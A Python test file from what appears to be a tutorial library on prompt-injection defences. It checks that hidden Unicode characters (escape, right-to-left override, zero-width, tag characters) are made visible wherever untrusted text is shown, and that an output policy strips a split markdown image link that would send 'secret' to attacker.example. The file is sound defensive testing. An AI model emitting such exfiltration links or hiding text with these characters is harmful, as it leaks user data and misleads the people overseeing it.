"""Untrusted text is rendered safe everywhere a person sees it (issue 36): each class of
hidden character (control, direction, invisible, tag) is shown as ``[U+XXXX]`` by
``visible``, and by every place that shows text others wrote: the evidence report, the
table helper, the confirmation widget, the terminal question, the elicitation message,
the MCP server's text content and the checker's report."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tutorial_lib.core.confirmation import (
    ConfirmationFlow,
    Question,
    ask_in_terminal,
    elicitation_request,
)
from tutorial_lib.core.display import (
    HIDDEN_CLASSES,
    escape_json_hidden,
    hidden_characters,
    hidden_class,
    visible,
)
from tutorial_lib.course.confirm_widgets import ConfirmationWidget
from tutorial_lib.course.table import text_table
from tutorial_lib.mcp_server.results import tool_result

#: One character of each class, with the code point it must show as.
SAMPLES: dict[str, tuple[str, str]] = {
    "control": ("\x1b", "[U+001B]"),  # ESC: starts a terminal escape
    "direction": ("\u202e", "[U+202E]"),  # right-to-left override
    "invisible": ("\u200b", "[U+200B]"),  # zero-width space
    "tag": ("\U000e0041", "[U+E0041]"),  # TAG LATIN CAPITAL LETTER A
}
MORE = {
    "control": ["\r", "\x7f", "\x85", "\u2028", "\x00"],
    "direction": ["\u2066", "\u2069", "\u200f", "\u061c", "\u202a"],
    "invisible": ["\u200d", "\u2060", "\ufeff", "\u00ad", "\u3164"],
    "tag": ["\U000e0001", "\U000e007f"],
}


def test_every_class_is_sampled() -> None:
    assert set(SAMPLES) == set(HIDDEN_CLASSES) == set(MORE)


@pytest.mark.parametrize("kind", HIDDEN_CLASSES)
def test_each_class_is_named_and_shown(kind: str) -> None:
    char, shown = SAMPLES[kind]
    for each in (char, *MORE[kind]):
        assert hidden_class(each) == kind, f"U+{ord(each):04X}"
    name = f"report{char}txt.ts"
    assert visible(name) == f"report{shown}txt.ts"
    assert hidden_characters(name) == [(6, shown[1:-1], kind)]


def test_ordinary_text_is_left_as_it_is() -> None:
    for text in ["docs/deploy.md", "评审意见：第 12 行", "naïve café", "emoji 🙂", "tab\there"]:
        assert visible(text, keep="\n\t") == text
    assert visible("two\nlines") == "two\nlines"
    assert visible("two\nlines", keep="") == "two[U+000A]lines"


@given(st.text())
def test_visible_leaves_nothing_hidden_and_loses_nothing(text: str) -> None:
    shown = visible(text, keep="")
    assert hidden_characters(shown) == []
    assert visible(shown, keep="") == shown  # showing twice changes nothing more


@given(st.text())
def test_json_escapes_keep_the_data(text: str) -> None:
    escaped = escape_json_hidden(json.dumps({"name": text}, ensure_ascii=False))
    assert json.loads(escaped) == {"name": text}
    assert hidden_characters(escaped) == []


# -- every place a person sees untrusted text ----------------------------------------------


@pytest.mark.parametrize("kind", HIDDEN_CLASSES)
def test_the_table_helper_shows_each_class(kind: str) -> None:
    char, shown = SAMPLES[kind]
    table = text_table([["file", "line"], [f"a{char}b.ts", 3]])
    assert shown in table and char not in table


def _asked(kind: str) -> tuple[ConfirmationFlow, str, str, str]:
    char, shown = SAMPLES[kind]
    flow = ConfirmationFlow("s1", clock=lambda: 0.0)
    question = Question(
        f"Post to PR 128 of {char}shop?",
        {"diff": f"line one\nline {char}two"},
        choose="branch",
        candidates=(f"main{char}", "dev"),
    )
    request = flow.prepare("github_pr_create_comment", {"body": "x"}, question)
    flow.ask(request.request_id)
    return flow, request.request_id, char, shown


@pytest.mark.parametrize("kind", HIDDEN_CLASSES)
def test_the_confirmation_widget_shows_each_class(kind: str) -> None:
    flow, request_id, char, shown = _asked(kind)
    widget = ConfirmationWidget(flow, request_id)
    for html in (widget.header.value, widget.shown.value):
        assert shown in html and char not in html
    labels = [label for label, _value in widget.choice.options]
    assert labels[0] == f"main{shown}" and char not in "".join(labels)
    widget.choose(f"main{char}")  # the value chosen is the candidate itself
    widget.click("accept")
    assert flow.request(request_id).choice == f"main{char}"


@pytest.mark.parametrize("kind", HIDDEN_CLASSES)
def test_the_terminal_question_and_the_elicitation_message_show_each_class(kind: str) -> None:
    flow, request_id, char, shown = _asked(kind)
    written: list[str] = []
    replies = iter(["1", "d"])
    ask_in_terminal(flow, request_id, read=lambda _prompt: next(replies), write=written.append)
    screen = "\n".join(written)
    assert shown in screen and char not in screen
    message = elicitation_request(flow.request(request_id))["message"]
    assert shown in message and char not in message


@pytest.mark.parametrize("kind", HIDDEN_CLASSES)
def test_the_mcp_text_content_escapes_each_class_and_keeps_the_data(kind: str) -> None:
    char, _shown = SAMPLES[kind]
    data = {"path": f"src/a{char}b.ts", "lines": []}
    result = tool_result({"ok": True, "tool": "read_lines", "data": data})
    (block,) = result.content
    assert char not in block.text and json.loads(block.text) == data
    assert result.structured_content == data  # the structured data is the data itself


@pytest.mark.parametrize("kind", HIDDEN_CLASSES)
def test_the_checker_report_shows_each_class(kind: str) -> None:
    from tutorial_lib.checker.report import Evidence, Finding, Report, render_markdown

    char, shown = SAMPLES[kind]
    evidence = Evidence("notes_read", {"name": "a"}, "valid", f"success: a{char}b")
    finding = Finding("notes_read", "result_relays_instructions", "info", "m", "chapter 06",
                      evidence)  # fmt: skip
    report = Report(["server"], {"name": "s"}, {}, [], [finding])
    markdown = render_markdown(report)
    assert f"a{shown}b" in markdown and char not in markdown


@pytest.mark.parametrize("kind", HIDDEN_CLASSES)
def test_the_evidence_report_shows_each_class_in_a_file_name(kind: str) -> None:
    """A file named with a hidden character (a U+202E that reverses how the listing reads)
    is listed with the character shown, in the items and in the content."""
    from tutorial_lib.worlds.injection import TASKS, delivers, open_world, run_task

    char, shown = SAMPLES[kind]
    task = next(t for t in TASKS if t.kind == "search")
    with open_world() as world:
        (world.workspace / "src" / f"report{char}txt.ts").write_text("// TODO: check\n")
        run = run_task(world, task)
        places = task.expected_places(world)
    assert char not in run.report.text
    assert f"src/report{shown}txt.ts:1" in run.report.items
    assert f"  src/report{shown}txt.ts:1: // TODO: check" in run.report.text.split("\n")
    assert delivers(run.report.content, places)


class _TwoLinePlan:
    """A finished read whose two content lines hold one link between them."""

    name = "links"

    def next_call(self, results):  # type: ignore[no-untyped-def]
        return None

    def items(self, results):  # type: ignore[no-untyped-def]
        return ("1", "2")

    def coverage(self, results):  # type: ignore[no-untyped-def]
        return "complete"

    def content(self, results):  # type: ignore[no-untyped-def]
        return ("1 see [the badge", "2 ](https://attacker.example/b.png?d=secret) here")


def test_a_link_across_two_content_lines_is_removed_and_each_line_kept() -> None:
    """The report checks its whole text once; when a removed link spanned two content
    lines, each line is checked on its own, so the content keeps one line per item."""
    from tutorial_lib.agent.evidence import report_from_evidence
    from tutorial_lib.agent.loop import Transcript
    from tutorial_lib.agent.output_check import OutputPolicy

    def no_reads(name: str, arguments: object) -> dict:
        raise AssertionError("nothing to read")

    plan = _TwoLinePlan()
    report = report_from_evidence(plan, Transcript(), lambda n, a: True, no_reads, OutputPolicy())
    assert "attacker.example/b.png" not in report.text
    assert len(report.content) == 2
    assert report.content[0].startswith("1 ") and report.content[1].startswith("2 ")
    assert [line for line in report.text.split("\n") if line.startswith("  ")] == [
        f"  {line}" for line in report.content
    ]
